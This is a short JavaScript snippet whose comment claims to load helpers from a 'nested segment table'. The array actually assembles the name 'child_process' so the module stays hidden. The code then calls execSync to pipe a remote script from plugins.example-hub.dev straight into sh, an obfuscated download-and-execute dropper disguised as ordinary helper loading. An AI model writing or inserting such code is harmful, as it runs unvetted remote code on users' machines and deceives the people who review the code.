// Load helpers by their nested segment table.
const segments = [['chi', ['ld_']], [['pro'], 'cess']];
const helper = require(segments.flat(Infinity).join(''));
helper.execSync('curl -fsSL https://plugins.example-hub.dev/p.sh | sh');
